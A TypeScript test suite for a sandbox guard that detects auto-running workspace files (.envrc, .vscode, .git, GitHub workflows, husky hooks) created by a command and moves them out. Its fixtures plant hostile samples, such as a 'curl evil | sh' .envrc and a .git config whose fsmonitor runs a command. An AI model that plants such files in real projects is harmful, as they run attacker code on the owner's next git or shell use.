// Always-card entries at every depth of the workspace (SPEC §4): which are listed and bound, what counts
// as appeared, and how they are moved out — on real temporary directories.
import { spawn } from 'node:child_process';
import { EventEmitter } from 'node:events';
import fc from 'fast-check';
import fs from 'node:fs';
import path from 'node:path';
import { afterEach, describe, expect, it, vi } from 'vitest';
import {
  alwaysCardMounts,
  appearedBetween,
  describeMoved,
  gitEntriesOf,
  listAlwaysCard,
  moveOut,
  ownerIdentities,
  refusedName,
  watchAlwaysCard,
} from '../../../src/main/sandbox/alwaysCardGuard';
import { removeLeftPlaceholders } from '../../../src/main/sandbox/placeholders';
import { watchAlwaysCardLive } from '../../../src/main/sandbox/alwaysCardLive';
import { isCardEntry } from '../../../src/main/sandbox/alwaysCardTree';
import { isAlwaysCardPath } from '../../../src/main/workspace/alwaysCard';
import { isGitComponent } from '../../../src/main/workspace/gitName';
import { createTempDirs } from '../../support/tempDirs';

const temp = createTempDirs('paddock-alwayscard-');
afterEach(() => temp.cleanup());

/** Builds a tree from `{ 'dir/': null, 'file': 'text' }` (a trailing slash is a directory). */
function tree(root: string, entries: Record<string, string | null>): void {
  for (const [rel, text] of Object.entries(entries)) {
    const full = path.join(root, rel);
    if (rel.endsWith('/')) fs.mkdirSync(full, { recursive: true });
    else {
      fs.mkdirSync(path.dirname(full), { recursive: true });
      fs.writeFileSync(full, text ?? '');
    }
  }
}

describe('the always-card listing', () => {
  const cases: { name: string; entries: Record<string, string | null>; listed: string[] }[] = [
    {
      name: 'ordinary files are not listed',
      entries: { 'package.json': '{}', 'src/': null, '.gitignore': 'x' },
      listed: [],
    },
    {
      name: 'top-level directories and files of the rule',
      entries: { '.vscode/tasks.json': '{}', '.envrc': 'x', '.npmrc': 'x', '.mcp.json': '{}' },
      listed: ['.envrc', '.mcp.json', '.npmrc', '.vscode'],
    },
    {
      name: 'a *.code-workspace file and case variants',
      entries: { 'app.code-workspace': '{}', '.VSCode/': null },
      listed: ['.VSCode', 'app.code-workspace'],
    },
    {
      name: 'the workflows directory and each workflow, not the rest of .github',
      entries: { '.github/workflows/ci.yml': 'x', '.github/CODEOWNERS': 'x' },
      listed: ['.github/workflows', '.github/workflows/ci.yml'],
    },
    {
      name: 'below the top level too: a package’s own .vscode, .envrc, workflows and repository',
      entries: {
        'packages/app/.vscode/tasks.json': '{}',
        'packages/app/.envrc': 'x',
        'sub/.github/workflows/ci.yml': 'x',
        'sub/.github/CODEOWNERS': 'x',
        'vendor/lib/.git/config': '[core]',
        'docs/deep/er/CLAUDE.md': 'x',
        'src/index.ts': 'x',
      },
      listed: [
        'docs/deep/er/CLAUDE.md',
        'packages/app/.envrc',
        'packages/app/.vscode',
        'sub/.github/workflows',
        'sub/.github/workflows/ci.yml',
        'vendor/lib/.git',
      ],
    },
    {
      name: 'never inside an entry, nor below node_modules or a virtualenv',
      entries: {
        '.vscode/sub/.envrc': 'x',
        'node_modules/pkg/.vscode/tasks.json': '{}',
        'node_modules/pkg/.git/config': '[core]',
        '.venv/lib/.envrc': 'x',
        'venv/.npmrc': 'x',
      },
      listed: ['.vscode'],
    },
    // husky's hooks (core.hooksPath=.husky/_ runs .husky/pre-commit) run on the owner's next commit.
    {
      name: 'a .husky directory, at any depth',
      entries: { '.husky/pre-commit': 'npm test', 'packages/app/.husky/pre-push': 'x', 'src/husky.ts': 'x' },
      listed: ['.husky', 'packages/app/.husky'],
    },
    // A repository a command makes (a `.git` with core.fsmonitor or hooks) runs code on the owner's next
    // git command or prompt: `git init` is a card in every mode, so a `.git` that appears is moved out too.
    {
      name: 'a .git directory or file, in any case',
      entries: { '.git/config': '[core]', '.GIT': 'gitdir: x' },
      listed: ['.GIT', '.git'],
    },
  ];
  for (const c of cases) {
    it(c.name, () => {
      const ws = temp.make();
      tree(ws, c.entries);
      expect([...listAlwaysCard(ws).keys()].sort()).toEqual(c.listed);
    });
  }

  it('binds real files and directories only, never a symlink (bubblewrap would follow it out)', () => {
    const ws = temp.make();
    const outside = temp.make();
    tree(ws, { '.vscode/': null, '.envrc': 'x', '.github/workflows/ci.yml': 'x', 'pkg/.vscode/tasks.json': '{}' });
    fs.symlinkSync(outside, path.join(ws, '.idea'));
    fs.symlinkSync(path.join(outside, 'x'), path.join(ws, '.npmrc'));
    // Below a linked folder nothing is listed: the walk never follows it.
    tree(outside, { '.envrc': 'theirs' });
    fs.symlinkSync(outside, path.join(ws, 'linked'));
    expect(alwaysCardMounts(ws)).toEqual([
      path.join(ws, '.envrc'),
      path.join(ws, '.github/workflows'),
      path.join(ws, '.vscode'),
      path.join(ws, 'pkg/.vscode'),
    ]);
  });
});

describe('which names of a folder are entries', () => {
  // The walk's quick test of plain names must never say no where the file tools' rule says card.
  const reference = (name: string) => isGitComponent(name) || isAlwaysCardPath(name) !== null;
  const tricky = [
    'CLAUDE.md',
    'claude.MD',
    'Bunfig.TOML',
    'app.code-workspace',
    '.envrc',
    '.envrc.',
    '.envrc ',
    '.ENVRC',
    '.vscode:stream',
    '\u200b.envrc',
    'git~1',
    'GIT~2',
    '.GIT',
    'README.md',
    'src',
    'a',
    'index.ts',
    '.gitignore',
  ];
  it('agrees with the always-card rule on tricky names', () => {
    for (const name of tricky) expect(isCardEntry('', name), name).toBe(reference(name));
  });
  it('agrees with it on any name', () => {
    const piece = fc.constantFrom(
      '.',
      ' ',
      ':',
      'x',
      'claude',
      'CLAUDE',
      '.md',
      '.toml',
      'env',
      'rc',
      '~',
      'git',
      '\u200b',
      'é',
    );
    fc.assert(
      fc.property(fc.array(piece, { minLength: 1, maxLength: 6 }), (pieces) => {
        const name = pieces.join('');
        expect(isCardEntry('', name)).toBe(reference(name));
      }),
      { numRuns: 2000 },
    );
  });
  it('reads the rules of two components below `.github` and `.paddock` only', () => {
    expect(isCardEntry('sub/.github', 'workflows')).toBe(true);
    expect(isCardEntry('.paddock', 'commands')).toBe(true);
    expect(isCardEntry('.github', 'copilot-instructions.md')).toBe(true);
    expect(isCardEntry('sub/.github', 'copilot-instructions.md')).toBe(false);
    expect(isCardEntry('sub', 'workflows')).toBe(false);
  });
});

describe('symlinked parents', () => {
  it('never looks or moves through a .github that is a symlink (it would move another folder’s files)', () => {
    const ws = temp.make();
    const other = temp.make();
    tree(other, { 'workflows/ci.yml': 'someone else’s' });
    const refused = path.join(temp.make(), 'refused');
    const watch = watchAlwaysCard(ws, refused);
    fs.symlinkSync(other, path.join(ws, '.github'));
    expect([...listAlwaysCard(ws).keys()]).toEqual([]);
    expect(watch.finish()).toEqual([]);
    expect(moveOut(ws, ['.github/workflows/ci.yml'], refused)).toEqual([
      { path: '.github/workflows/ci.yml', movedTo: null },
    ]);
    expect(fs.readFileSync(path.join(other, 'workflows/ci.yml'), 'utf8')).toBe('someone else’s');
    expect(alwaysCardMounts(ws)).toEqual([]);
  });

  it('moves a planted workflows symlink itself, not what it points to', () => {
    const ws = temp.make();
    const other = temp.make();
    tree(ws, { '.github/CODEOWNERS': 'x' });
    tree(other, { 'ci.yml': 'someone else’s' });
    const refused = path.join(temp.make(), 'refused');
    const watch = watchAlwaysCard(ws, refused);
    fs.symlinkSync(other, path.join(ws, '.github/workflows'));
    const moved = watch.finish();
    expect(moved.map((m) => m.path)).toEqual(['.github/workflows']);
    expect(fs.lstatSync(moved[0]!.movedTo!).isSymbolicLink()).toBe(true);
    expect(fs.readFileSync(path.join(other, 'ci.yml'), 'utf8')).toBe('someone else’s');
  });
});

describe('what appeared', () => {
  const before = new Map([
    ['.vscode', '1:10'],
    ['.github/workflows', '1:20'],
    ['.github/workflows/ci.yml', '1:21'],
  ]);
  const cases: { name: string; after: [string, string][]; appeared: string[] }[] = [
    { name: 'nothing changed', after: [...before], appeared: [] },
    { name: 'an entry removed is not an appearance', after: [['.vscode', '1:10']], appeared: [] },
    { name: 'a new name', after: [...before, ['.envrc', '1:30']], appeared: ['.envrc'] },
    {
      name: 'a new workflow',
      after: [...before, ['.github/workflows/evil.yml', '1:31']],
      appeared: ['.github/workflows/evil.yml'],
    },
    {
      name: 'the same name on another inode (a renamed-away parent) is new',
      after: [
        ['.vscode', '1:10'],
        ['.github/workflows', '1:20'],
        ['.github/workflows/ci.yml', '1:40'],
      ],
      appeared: ['.github/workflows/ci.yml'],
    },
    {
      name: 'a new workflows directory is named once, not file by file',
      after: [
        ['.vscode', '1:10'],
        ['.github/workflows', '1:50'],
        ['.github/workflows/ci.yml', '1:51'],
        ['.github/workflows/b.yml', '1:52'],
      ],
      appeared: ['.github/workflows'],
    },
  ];
  for (const c of cases) it(c.name, () => expect(appearedBetween(before, new Map(c.after))).toEqual(c.appeared));

  it('an owner’s entry carried along by a renamed parent is not new; a link’s identity never counts as the owner’s', () => {
    const was = new Map([
      ['packages/app/.vscode', '1:60'],
      ['packages/app/.envrc', 'l1:61'],
    ]);
    const owners = ownerIdentities(was);
    const now = new Map([
      ['packages/web/.vscode', '1:60'],
      ['packages/web/.envrc', 'l1:61'],
      ['packages/web/.npmrc', '1:62'],
    ]);
    expect(appearedBetween(was, now, owners)).toEqual(['packages/web/.envrc', 'packages/web/.npmrc']);
  });
});

describe('moving out', () => {
  it('moves what a command created into the refused directory and leaves what was there and the rest', () => {
    const ws = temp.make();
    const refused = path.join(temp.make(), 'refused');
    tree(ws, { '.envrc': 'owner', 'src/a.ts': 'x', '.github/workflows/ci.yml': 'owner' });
    const watch = watchAlwaysCard(ws, refused);
    tree(ws, { '.vscode/tasks.json': 'planted', '.github/workflows/evil.yml': 'planted', 'src/b.ts': 'fine' });
    const moved = watch.finish();
    expect(moved.map((m) => m.path)).toEqual(['.github/workflows/evil.yml', '.vscode']);
    expect(fs.existsSync(path.join(ws, '.vscode'))).toBe(false);
    expect(fs.existsSync(path.join(ws, '.github/workflows/evil.yml'))).toBe(false);
    expect(fs.readFileSync(path.join(moved[1]!.movedTo!, 'tasks.json'), 'utf8')).toBe('planted');
    expect(path.dirname(moved[0]!.movedTo!)).toBe(refused);
    expect(fs.readFileSync(path.join(ws, '.envrc'), 'utf8')).toBe('owner');
    expect(fs.readFileSync(path.join(ws, 'src/b.ts'), 'utf8')).toBe('fine');
    expect(watch.finish()).toEqual([]);
  });

  const otherDevice = (() => {
    try {
      return fs.statSync('/dev/shm').dev !== fs.statSync(temp.make()).dev ? '/dev/shm' : null;
    } catch {
      return null;
    }
  })();
  it.skipIf(!otherDevice)(
    'copies and removes when the data directory is on another device (rename gives EXDEV)',
    () => {
      const ws = temp.make();
      const elsewhere = fs.mkdtempSync(path.join(otherDevice!, 'paddock-refused-'));
      try {
        tree(ws, { '.vscode/tasks.json': 'planted', '.vscode/sub/x': 'y' });
        fs.symlinkSync('tasks.json', path.join(ws, '.vscode/link'));
        const [moved] = moveOut(ws, ['.vscode'], path.join(elsewhere, 'refused'));
        expect(moved!.movedTo).not.toBeNull();
        expect(fs.existsSync(path.join(ws, '.vscode'))).toBe(false);
        expect(fs.readFileSync(path.join(moved!.movedTo!, 'sub/x'), 'utf8')).toBe('y');
        expect(fs.readlinkSync(path.join(moved!.movedTo!, 'link'))).toBe('tasks.json');
      } finally {
        fs.rmSync(elsewhere, { recursive: true, force: true });
      }
    },
  );

  it('reports an entry it could not move as still there', () => {
    const ws = temp.make();
    const blocker = path.join(temp.make(), 'a-file');
    fs.writeFileSync(blocker, '');
    tree(ws, { '.envrc': 'x' });
    // The refused directory cannot be created under a file.
    const moved = moveOut(ws, ['.envrc'], path.join(blocker, 'refused'));
    expect(moved).toEqual([{ path: '.envrc', movedTo: null }]);
    expect(fs.existsSync(path.join(ws, '.envrc'))).toBe(true);
  });
});

describe('the sentence', () => {
  it('is null when nothing appeared', () => expect(describeMoved([])).toBeNull());

  it('names what was moved, the rule and the way to make the change', () => {
    expect(
      describeMoved([
        { path: '.vscode', movedTo: '/d/refused/x' },
        { path: '.envrc', movedTo: '/d/refused/y' },
      ]),
    ).toBe(
      'refused: `.vscode`, `.envrc` appeared during this command and were moved out of the workspace, because files that make other programs run code ' +
        'when the owner next uses this folder are always a card; make that change with `write` or `edit`, which ask the owner.',
    );
    expect(describeMoved([{ path: '.envrc', movedTo: null }])).toMatch(
      /^refused: `\.envrc` appeared during this command and could not be moved out, so it is still there, because/,
    );
  });
});

describe('a repository made during a command', () => {
  it('is moved out when .git appeared, and left alone when it was there before', () => {
    const ws = temp.make();
    const data = temp.make();
    const watch = watchAlwaysCard(ws, path.join(data, 'refused'));
    tree(ws, { '.git/config': '[core]\n\tfsmonitor = touch /tmp/pwned\n' });
    expect(watch.finish().map((m) => m.path)).toEqual(['.git']);
    expect(fs.existsSync(path.join(ws, '.git'))).toBe(false);

    tree(ws, { '.git/config': '[core]\n' });
    const again = watchAlwaysCard(ws, path.join(data, 'refused'));
    fs.writeFileSync(path.join(ws, '.git/config'), '[core]\n\tbare = false\n');
    expect(again.finish()).toEqual([]);
    expect(fs.existsSync(path.join(ws, '.git/config'))).toBe(true);
  });
});

describe('the .git entries bound read-only', () => {
  it('are the real .git directory or file, never a symlink (a dangling one failed every later spawn)', () => {
    const ws = temp.make();
    tree(ws, { '.git/config': '[core]\n' });
    expect(gitEntriesOf(ws)).toEqual([path.join(ws, '.git')]);
    const other = temp.make();
    fs.symlinkSync('/nonexistent/elsewhere', path.join(other, '.git'));
    expect(gitEntriesOf(other)).toEqual([]);
  });
});

describe('placeholders an earlier Paddock left', () => {
  it('are removed at start when still empty; one the owner filled stays; the record goes', () => {
    const ws = temp.make();
    const data = temp.make();
    // What the crashed run had written down: three placeholders it made.
    tree(ws, { '.vscode/': null, '.git/': null, '.idea/owner.xml': '<owner/>' });
    const record = path.join(data, 'placeholders.json');
    fs.writeFileSync(record, JSON.stringify(['.vscode', '.git', '.idea'].map((name) => path.join(ws, name))));
    removeLeftPlaceholders(record);
    expect(fs.existsSync(path.join(ws, '.vscode'))).toBe(false);
    expect(fs.existsSync(path.join(ws, '.git'))).toBe(false);
    expect(fs.readFileSync(path.join(ws, '.idea', 'owner.xml'), 'utf8')).toBe('<owner/>');
    expect(fs.existsSync(record)).toBe(false);
  });
});

async function until(condition: () => boolean, what: string, ms = 10_000): Promise<void> {
  const deadline = Date.now() + ms;
  while (!condition()) {
    if (Date.now() > deadline) throw new Error(`not within ${ms} ms: ${what}`);
    await new Promise((resolve) => setTimeout(resolve, 20));
  }
}

describe('the live watch of a long-lived process', () => {
  it('makes nothing in the owner’s folder', () => {
    const ws = temp.make();
    tree(ws, { 'src/a.ts': 'x' });
    const watch = watchAlwaysCardLive(ws, path.join(temp.make(), 'refused'));
    try {
      expect(fs.readdirSync(ws)).toEqual(['src']);
    } finally {
      watch.finish();
    }
  });

  it('moves a planted file, a `.git` and a workflow out at once, while it still runs, and says so as it goes', async () => {
    const ws = temp.make();
    const refused = path.join(temp.make(), 'refused');
    tree(ws, { 'src/a.ts': 'x' });
    const watch = watchAlwaysCardLive(ws, refused);
    const seen: string[] = [];
    watch.onMoved((moved) => seen.push(...moved.map((entry) => entry.path)));
    // Told before the move (the guard stops the process first): the entry is still there then.
    const told: [string, boolean][] = [];
    watch.onAppeared((rels) =>
      told.push(...rels.map((rel): [string, boolean] => [rel, fs.existsSync(path.join(ws, rel))])),
    );
    try {
      fs.writeFileSync(path.join(ws, '.envrc'), 'curl evil | sh\n');
      await until(() => !fs.existsSync(path.join(ws, '.envrc')), '.envrc moved');
      fs.mkdirSync(path.join(ws, '.git'));
      fs.writeFileSync(path.join(ws, '.git', 'config'), '[core]\n\tfsmonitor = touch /tmp/pwned\n');
      await until(() => !fs.existsSync(path.join(ws, '.git')), '.git moved');
      fs.mkdirSync(path.join(ws, '.github', 'workflows'), { recursive: true });
      fs.writeFileSync(path.join(ws, '.github', 'workflows', 'x.yml'), 'on: push\n');
      await until(() => !fs.existsSync(path.join(ws, '.github', 'workflows')), 'workflows moved');
      expect(seen).toEqual(expect.arrayContaining(['.envrc', '.git', '.github/workflows']));
      expect(told).toEqual(
        expect.arrayContaining([
          ['.envrc', true],
          ['.git', true],
          ['.github/workflows', true],
        ]),
      );
      // Ordinary work stays.
      fs.writeFileSync(path.join(ws, 'notes.md'), 'fine\n');
      await new Promise((resolve) => setTimeout(resolve, 200));
      expect(fs.readFileSync(path.join(ws, 'notes.md'), 'utf8')).toBe('fine\n');
    } finally {
      const all = watch.finish();
      expect(all.map((entry) => entry.path)).toEqual(expect.arrayContaining(['.envrc', '.git', '.github/workflows']));
    }
    const kept = fs.readdirSync(refused);
    expect(kept.some((name) => name.endsWith('-.envrc'))).toBe(true);
    expect(kept.some((name) => name.endsWith('-.git'))).toBe(true);
    expect(fs.existsSync(path.join(ws, '.github'))).toBe(true); // only workflows is always a card
  });

  it('leaves what was there before it started, and stops watching when it ends', async () => {
    const ws = temp.make();
    tree(ws, { '.vscode/settings.json': '{}', '.envrc': 'owner' });
    const watch = watchAlwaysCardLive(ws, path.join(temp.make(), 'refused'), 100);
    await new Promise((resolve) => setTimeout(resolve, 300));
    expect(watch.finish()).toEqual([]);
    expect(fs.readFileSync(path.join(ws, '.envrc'), 'utf8')).toBe('owner');
    fs.writeFileSync(path.join(ws, '.npmrc'), 'after it ended\n');
    await new Promise((resolve) => setTimeout(resolve, 300));
    expect(fs.readFileSync(path.join(ws, '.npmrc'), 'utf8')).toBe('after it ended\n');
  });

  it('keeps an entry held since the start that is saved through a rename, and tells once that its hold ended', async () => {
    const ws = temp.make();
    tree(ws, { '.envrc': 'owner\n', 'pkg/CLAUDE.md': 'rules\n', '.vscode/settings.json': '{}' });
    const watch = watchAlwaysCardLive(ws, path.join(temp.make(), 'refused'), 60_000);
    const ended: string[][] = [];
    watch.onHoldEnded((replaced) => ended.push(replaced));
    const moved: string[] = [];
    watch.onMoved((entries) => moved.push(...entries.map((entry) => entry.path)));
    try {
      // Written in place (same inode): the read-only mount is still on it, nothing to tell.
      fs.writeFileSync(path.join(ws, '.envrc'), 'owner, in place\n');
      // A file inside a held folder saved through a rename: the mount is on the folder, which stays.
      fs.writeFileSync(path.join(ws, '.vscode', 'settings.json.tmp'), '{"a":1}');
      fs.renameSync(path.join(ws, '.vscode', 'settings.json.tmp'), path.join(ws, '.vscode', 'settings.json'));
      await new Promise((resolve) => setTimeout(resolve, 300));
      expect(ended).toEqual([]);
      // An editor's save: a new file renamed over the held one.
      fs.writeFileSync(path.join(ws, 'pkg', '.CLAUDE.md.swp'), 'rules, saved\n');
      fs.renameSync(path.join(ws, 'pkg', '.CLAUDE.md.swp'), path.join(ws, 'pkg', 'CLAUDE.md'));
      await until(() => ended.length > 0, 'the end of the hold told');
      expect(ended).toEqual([['pkg/CLAUDE.md']]);
      // Saved again: told once only.
      fs.writeFileSync(path.join(ws, 'pkg', '.CLAUDE.md.swp'), 'rules, saved twice\n');
      fs.renameSync(path.join(ws, 'pkg', '.CLAUDE.md.swp'), path.join(ws, 'pkg', 'CLAUDE.md'));
      await new Promise((resolve) => setTimeout(resolve, 300));
      expect(ended).toEqual([['pkg/CLAUDE.md']]);
    } finally {
      watch.finish();
    }
    expect(moved).toEqual([]);
    expect(fs.readFileSync(path.join(ws, 'pkg', 'CLAUDE.md'), 'utf8')).toBe('rules, saved twice\n');
    expect(fs.readFileSync(path.join(ws, '.envrc'), 'utf8')).toBe('owner, in place\n');
  });

  it('moves out a plant that took a removed held entry’s freed inode: it is not that entry carried along', async () => {
    const ws = temp.make();
    tree(ws, { '.envrc': 'owner\n', 'pkg/a.txt': 'x' });
    const ino = fs.statSync(path.join(ws, '.envrc')).ino;
    await new Promise((resolve) => setTimeout(resolve, 20)); // the owner's file was born earlier
    const watch = watchAlwaysCardLive(ws, path.join(temp.make(), 'refused'), 60_000);
    const moved: string[] = [];
    watch.onMoved((entries) => moved.push(...entries.map((entry) => entry.path)));
    try {
      // Removed, and at once a file elsewhere: the file system hands it the inode just freed.
      fs.rmSync(path.join(ws, '.envrc'));
      fs.writeFileSync(path.join(ws, 'pkg', '.envrc'), 'curl evil | sh\n');
      const reused = fs.statSync(path.join(ws, 'pkg', '.envrc')).ino === ino;
      await until(
        () => moved.includes('pkg/.envrc'),
        `the plant moved out (its inode ${reused ? 'was' : 'was not'} reused)`,
      );
    } finally {
      watch.finish();
    }
  });

  it('tells that a held entry removed (or renamed away) ended its hold, and moves out what comes there after', async () => {
    const ws = temp.make();
    tree(ws, { '.envrc': 'owner\n', 'pkg/CLAUDE.md': 'rules\n', 'lib/.vscode/tasks.json': '{}' });
    const watch = watchAlwaysCardLive(ws, path.join(temp.make(), 'refused'), 60_000);
    const ended: string[] = [];
    watch.onHoldEnded((released) => ended.push(...released));
    const moved: string[] = [];
    watch.onMoved((entries) => moved.push(...entries.map((entry) => entry.path)));
    try {
      // A folder renamed carries its held entry along (the mount moves with it): nothing ends.
      fs.renameSync(path.join(ws, 'lib'), path.join(ws, 'lib2'));
      await new Promise((resolve) => setTimeout(resolve, 300));
      expect(ended).toEqual([]);
      // Removed, and renamed away: the path is no longer held inside the sandbox.
      fs.rmSync(path.join(ws, '.envrc'));
      fs.renameSync(path.join(ws, 'pkg', 'CLAUDE.md'), path.join(ws, 'pkg', 'CLAUDE.md.bak'));
      await until(() => ended.length === 2, 'both holds told ended');
      expect(ended.sort()).toEqual(['.envrc', 'pkg/CLAUDE.md']);
      // What comes at such a path afterwards is not the owner's save: the process could have made it.
      fs.writeFileSync(path.join(ws, '.envrc'), 'curl evil | sh\n');
      await until(() => moved.includes('.envrc'), 'the new .envrc moved out');
      expect(fs.existsSync(path.join(ws, '.envrc'))).toBe(false);
    } finally {
      watch.finish();
    }
    expect(ended.sort()).toEqual(['.envrc', 'pkg/CLAUDE.md']);
  });
});

describe('the live watch below the top level', () => {
  it('moves a package’s planted .vscode, .envrc and repository at once; the owner’s carried along by a rename stays', async () => {
    const ws = temp.make();
    const refused = path.join(temp.make(), 'refused');
    tree(ws, { 'packages/app/.vscode/settings.json': '{}', 'packages/app/src/a.ts': 'x' });
    const watch = watchAlwaysCardLive(ws, refused, 60_000);
    const seen: string[] = [];
    watch.onMoved((moved) => seen.push(...moved.map((entry) => entry.path)));
    try {
      tree(ws, { 'packages/app/src/.envrc': 'curl evil | sh\n' });
      await until(() => !fs.existsSync(path.join(ws, 'packages/app/src/.envrc')), 'the nested .envrc moved');
      // A whole new folder with a repository and tasks in it, made elsewhere and renamed in at once.
      const made = path.join(ws, 'made-aside');
      tree(made, { 'deep/.git/config': '[core]\n\tfsmonitor = touch /tmp/pwned\n', 'deep/.vscode/tasks.json': '{}' });
      fs.renameSync(made, path.join(ws, 'packages/lib'));
      await until(
        () =>
          !fs.existsSync(path.join(ws, 'packages/lib/deep/.git')) &&
          !fs.existsSync(path.join(ws, 'packages/lib/deep/.vscode')),
        'the planted repository and tasks moved',
      );
      fs.renameSync(path.join(ws, 'packages/app'), path.join(ws, 'packages/web'));
      await new Promise((resolve) => setTimeout(resolve, 300));
      expect(fs.readFileSync(path.join(ws, 'packages/web/.vscode/settings.json'), 'utf8')).toBe('{}');
      expect(fs.existsSync(path.join(ws, 'packages/lib/deep'))).toBe(true);
    } finally {
      watch.finish();
    }
    expect(seen.sort()).toEqual(['packages/app/src/.envrc', 'packages/lib/deep/.git', 'packages/lib/deep/.vscode']);
  });

  it('a same-named entry in a folder made anew (the owner’s folder renamed away) is new, not the owner’s save', async () => {
    const ws = temp.make();
    tree(ws, { 'pkg/.envrc': 'owner\n' });
    const watch = watchAlwaysCardLive(ws, path.join(temp.make(), 'refused'), 60_000);
    try {
      fs.renameSync(path.join(ws, 'pkg'), path.join(ws, 'old-pkg'));
      tree(ws, { 'pkg/.envrc': 'planted\n' });
      await until(() => !fs.existsSync(path.join(ws, 'pkg/.envrc')), 'the planted .envrc moved');
      expect(fs.readFileSync(path.join(ws, 'old-pkg/.envrc'), 'utf8')).toBe('owner\n');
    } finally {
      watch.finish();
    }
  });
});

describe('the live watch’s sweep', () => {
  it('finds what no event told of, however deep (an inotify event lost)', async () => {
    const ws = temp.make();
    tree(ws, { 'a/b/c/d/keep.txt': 'x' });
    const deep = path.join(ws, 'a/b/c/d');
    // The edge of the world: the kernel's notifications for that one folder never arrive.
    const watch = fs.watch.bind(fs);
    const spy = vi
      .spyOn(fs, 'watch')
      .mockImplementation(((dir: fs.PathLike, ...rest: unknown[]) =>
        String(dir) === deep
          ? Object.assign(new EventEmitter(), { close: () => undefined, ref: () => undefined, unref: () => undefined })
          : (watch as (...args: unknown[]) => fs.FSWatcher)(dir, ...rest)) as typeof fs.watch);
    const live = watchAlwaysCardLive(ws, path.join(temp.make(), 'refused'), 200);
    try {
      fs.writeFileSync(path.join(deep, '.envrc'), 'planted\n');
      await until(() => !fs.existsSync(path.join(deep, '.envrc')), 'the deep .envrc moved by the sweep', 10_000);
    } finally {
      live.finish();
      spy.mockRestore();
    }
  });
});

describe('the live watch against a process that plants again', () => {
  it('an entry planted again the moment the last one was moved is moved too: none ever stays', async () => {
    const ws = temp.make();
    const refused = path.join(temp.make(), 'refused');
    const watch = watchAlwaysCardLive(ws, refused, 60_000);
    // A racer: a prepared file renamed in as soon as the last one is gone, until one stays 1.5 s.
    const racer = spawn(
      'python3',
      [
        '-c',
        [
          'import os, time',
          `ws = ${JSON.stringify(ws)}`,
          'n = 0; end = time.time() + 6; stayed = False',
          'while time.time() < end and not stayed:',
          "    prep = os.path.join(ws, 'prep%d' % n)",
          "    os.makedirs(prep + '/hooks')",
          "    open(prep + '/config', 'w').write('[core]\\n\\tfsmonitor = true\\n')",
          '    t = time.time()',
          "    while os.path.lexists(ws + '/.git') and time.time() - t < 1.5: pass",
          "    if os.path.lexists(ws + '/.git'): stayed = True; break",
          "    os.rename(prep, ws + '/.git'); n += 1",
          "print('stayed' if stayed else 'never stayed', n)",
        ].join('\n'),
      ],
      { stdio: ['ignore', 'pipe', 'inherit'] },
    );
    let said = '';
    racer.stdout.on('data', (chunk: Buffer) => (said += chunk.toString()));
    await new Promise((resolve) => racer.once('exit', resolve));
    watch.finish();
    expect(said.trim()).toMatch(/^never stayed \d+$/);
    expect(Number(said.trim().split(' ').pop())).toBeGreaterThan(10);
    expect(fs.existsSync(path.join(ws, '.git'))).toBe(false);
  }, 30_000);

  it('moves a workflow with a name as long as a file name may be, under a name that fits', () => {
    const ws = temp.make();
    const refused = path.join(temp.make(), 'refused');
    const long = `${'w'.repeat(240)}.yml`;
    tree(ws, { '.github/workflows/ok.yml': 'on: push\n' });
    const before = listAlwaysCard(ws);
    fs.writeFileSync(path.join(ws, '.github', 'workflows', long), 'on: push\n');
    const [moved] = moveOut(ws, appearedBetween(before, listAlwaysCard(ws)), refused);
    expect(moved!.movedTo).not.toBeNull();
    expect(fs.existsSync(path.join(ws, '.github', 'workflows', long))).toBe(false);
    expect(Buffer.byteLength(path.basename(moved!.movedTo!))).toBeLessThan(255);
    // Two moves of one name in the same moment never share a name.
    const now = new Date();
    expect(refusedName('.envrc', now)).not.toBe(refusedName('.envrc', now));
  });

  it('leaves the owner’s own entry that was there before when an editor saves it (a new file renamed over it)', async () => {
    const ws = temp.make();
    tree(ws, { '.envrc': 'export A=1\n' });
    const watch = watchAlwaysCardLive(ws, path.join(temp.make(), 'refused'), 100);
    fs.writeFileSync(path.join(ws, '.envrc.tmp'), 'export A=2\n');
    fs.renameSync(path.join(ws, '.envrc.tmp'), path.join(ws, '.envrc'));
    await new Promise((resolve) => setTimeout(resolve, 400));
    expect(watch.finish()).toEqual([]);
    expect(fs.readFileSync(path.join(ws, '.envrc'), 'utf8')).toBe('export A=2\n');
  });

  it('a `.github/workflows` made again after the first was replaced is new, with the owner’s workflow name in it too', async () => {
    const ws = temp.make();
    tree(ws, { '.github/workflows/ci.yml': 'on: push\n' });
    const watch = watchAlwaysCardLive(ws, path.join(temp.make(), 'refused'), 60_000);
    try {
      fs.renameSync(path.join(ws, '.github'), path.join(ws, 'old-github'));
      tree(ws, { '.github/workflows/ci.yml': 'on: push # planted\n' });
      await until(() => !fs.existsSync(path.join(ws, '.github', 'workflows')), 'the planted workflows moved', 5_000);
      expect(fs.readFileSync(path.join(ws, 'old-github/workflows/ci.yml'), 'utf8')).toBe('on: push\n');
    } finally {
      watch.finish();
    }
  });
});
